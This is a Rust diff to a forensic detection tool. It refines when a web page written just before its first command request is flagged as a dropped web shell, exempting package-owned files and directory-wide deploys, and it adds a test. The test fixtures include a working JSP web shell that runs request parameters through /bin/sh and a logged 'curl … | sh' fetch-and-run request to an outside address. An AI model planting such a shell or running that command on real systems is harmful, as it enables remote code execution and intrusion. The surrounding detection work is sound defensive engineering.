@@ -16,6 +16,7 @@ use std::collections::BTreeMap;
 use minetrace_schemas::escape_bytes;
 use minetrace_schemas::findings::{Finding, Role, Severity};
 use minetrace_schemas::records::file::FileRecord;
+use minetrace_schemas::records::package::PackageVerdict;
 
 use super::webshells;
 use crate::detect::finding::{file_subject, finding, FindingExt};
@@ -97,14 +98,57 @@ fn reached(l: &ServiceLogLine) -> bool {
 /// an application's page was written at its install or update, long before the internet's probes.
 pub const DEPLOYED_BEFORE_USE_SECS: i64 = 3600;
 
+/// How close together a deploy writes the files of one directory: an unzip, a WAR unpacked, an rsync,
+/// a CMS's core update all write a directory's files within the same minute.
+pub const DEPLOY_WINDOW_SECS: i64 = 60;
+
+/// Other files of a page's directory written within [`DEPLOY_WINDOW_SECS`] of it that make its write
+/// part of the application's deploy, not a drop: a web shell is one file (at most a helper beside it),
+/// an update or install rewrites its directory.
+pub const DEPLOY_MIN_SIBLINGS: usize = 3;
+
 /// Whether `file` was written within [`DEPLOYED_BEFORE_USE_SECS`] before the first logged (dated,
-/// reached) command request to it: the intrusion deployed it to run that command.
-fn written_for_use(file: &FileRecord, hits: &[(&ServiceLogLine, Vec<u8>)]) -> bool {
+/// reached) command request to it, and alone: the intrusion deployed it to run that command. A page a
+/// package owns, or one written with the rest of its directory ([`written_with_its_directory`]: the
+/// admin's update of the application in that hour), is the application's, whatever probe followed.
+fn written_for_use(ctx: &Context, file: &FileRecord, hits: &[(&ServiceLogLine, Vec<u8>)]) -> bool {
     let Some(first) = hits.iter().filter_map(|(l, _)| l.log.time).min() else {
         return false;
     };
     let written = file.mtime.secs;
-    written <= first && written >= first.saturating_sub(DEPLOYED_BEFORE_USE_SECS)
+    let packaged = ctx
+        .model
+        .package_check(file.path.as_bytes())
+        .is_some_and(|c| {
+            matches!(
+                c.verdict,
+                PackageVerdict::Match | PackageVerdict::Mismatch | PackageVerdict::NoDigest
+            )
+        });
+    written <= first
+        && written >= first.saturating_sub(DEPLOYED_BEFORE_USE_SECS)
+        && !packaged
+        && !written_with_its_directory(ctx, file)
+}
+
+/// Whether at least [`DEPLOY_MIN_SIBLINGS`] other regular files of `file`'s directory were written
+/// within [`DEPLOY_WINDOW_SECS`] of it: a deploy of the application (a CMS update touching dozens of
+/// files), not one file dropped.
+fn written_with_its_directory(ctx: &Context, file: &FileRecord) -> bool {
+    let path = file.path.as_bytes();
+    let dir = crate::parse::dirname(path);
+    let at = file.mtime.secs;
+    ctx.model
+        .regular_files()
+        .filter(|g| {
+            let p = g.path.as_bytes();
+            p != path
+                && crate::parse::dirname(p) == dir
+                && g.mtime.secs.abs_diff(at) <= DEPLOY_WINDOW_SECS.unsigned_abs()
+        })
+        .take(DEPLOY_MIN_SIBLINGS)
+        .count()
+        >= DEPLOY_MIN_SIBLINGS
 }
 
 /// `MT-ENT-001`, one finding per requested script. The log names a path, and any client sends any query
@@ -129,7 +173,7 @@ fn web_commands(ctx: &Context) -> Vec<Finding> {
             .into_iter()
             .map(|f| {
                 let why = judge.intrusions(ctx, f).or_else(|| {
-                    written_for_use(f, &hits).then(|| {
+                    written_for_use(ctx, f, &hits).then(|| {
                         (
                             false,
                             "written shortly before the first command request to it".to_owned(),
@@ -586,6 +630,104 @@ mod tests {
                 !f.subjects.is_empty() && f.subjects.iter().all(|s| s.role == role),
                 "{f:#?}"
             );
+        }
+    }
+
+    /// Issue 13: a page written within the hour before its first command request is the intrusion's
+    /// only when it was written alone. The look-alike: the admin's update of the application half an
+    /// hour before the internet's probe rewrote the page with 40 other files of its directory in the same
+    /// minute (a deploy): the page is the application's, context of a low finding, never a review
+    /// artifact; so is a page its package installed. The attack: one new file in a directory whose
+    /// other files are a year old, or written minutes after such an update, stays the medium finding's
+    /// artifact (a review item).
+    #[test]
+    fn a_page_written_with_its_applications_update_is_no_drop() {
+        let iocs = Indicators::builtin();
+        // 10/Jun/2025:11:02:19 +0000
+        let first_use = 1_749_553_339;
+        let log: &[u8] = b"203.0.113.88 - - [10/Jun/2025:11:02:19 +0000] \"GET /app/admin/status.jsp?c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh HTTP/1.1\" 200 0\n\
+10.0.0.4 - - [10/Jun/2025:11:03:00 +0000] \"GET /app/ HTTP/1.1\" 200 100\n";
+        let app_page: &[u8] =
+            b"<%@ page contentType=\"text/html\" %><html><body>status: OK</body></html>\n";
+        let shell: &[u8] = b"<%@ page import=\"java.io.*\" %><%\nString c = request.getParameter(\"c\");\nProcess p = Runtime.getRuntime().exec(new String[]{\"/bin/sh\", \"-c\", c});\n%>\n";
+        let dir = "/var/lib/tomcat9/webapps/app/admin";
+        let mut ino = 50_000;
+        let mut file = |name: &str, written: i64, content: &[u8]| {
+            let (mut r, c) = fixture::file(format!("{dir}/{name}").as_bytes(), Some(content));
+            r.mtime.secs = written;
+            ino += 1;
+            r.ino = ino;
+            (r, c)
+        };
+        let update = first_use - 1_800;
+        let year_before = first_use - 365 * 86_400;
+        let cases = [
+            // The application updated: status.jsp and 40 more files in the same minute.
+            ("update", update, update, app_page, None),
+            // One new file among old ones.
+            (
+                "drop",
+                year_before,
+                first_use - 4,
+                shell,
+                Some(Severity::Medium),
+            ),
+            // One new file minutes after the update of its directory.
+            (
+                "drop after update",
+                update,
+                first_use - 4,
+                shell,
+                Some(Severity::Medium),
+            ),
+            // A page its package installed (a distribution's web application), written alone.
+            ("packaged", year_before, first_use - 4, app_page, None),
+        ];
+        for (case, others, page_written, content, want) in cases {
+            let checks = if case == "packaged" {
+                let mut c =
+                    fixture::not_owned(format!("{dir}/status.jsp").as_bytes(), "running-exe");
+                c.verdict = PackageVerdict::NoDigest;
+                c.package = Some("app-web".into());
+                vec![c]
+            } else {
+                Vec::new()
+            };
+            let mut files = vec![fixture::file(
+                b"/var/log/tomcat9/localhost_access_log.2025-06-10.txt",
+                Some(log),
+            )];
+            for i in 0..40 {
+                files.push(file(&format!("page{i:02}.jsp"), others + i % 30, app_page));
+            }
+            files.push(file("status.jsp", page_written, content));
+            let model = fixture::model(files, checks);
+            let found: Vec<_> = detect(&Context {
+                model: &model,
+                iocs: &iocs,
+            })
+            .into_iter()
+            .filter(|f| f.rule == rules::ENT_001.id)
+            .collect();
+            assert_eq!(found.len(), 1, "{case}: {found:#?}");
+            let f = &found[0];
+            match want {
+                Some(sev) => {
+                    assert_eq!(f.severity, sev, "{case}: {f:#?}");
+                    assert!(
+                        f.subjects.iter().all(|s| s.role == Role::Artifact),
+                        "{case}: {f:#?}"
+                    );
+                }
+                None => {
+                    assert_eq!(f.severity, Severity::Low, "{case}: {f:#?}");
+                    assert!(
+                        f.subjects.iter().all(|s| s.role == Role::Context),
+                        "{case}: {f:#?}"
+                    );
+                }
+            }
+            assert_eq!(f.subjects.len(), 1, "{case}: {f:#?}");
         }
     }
 
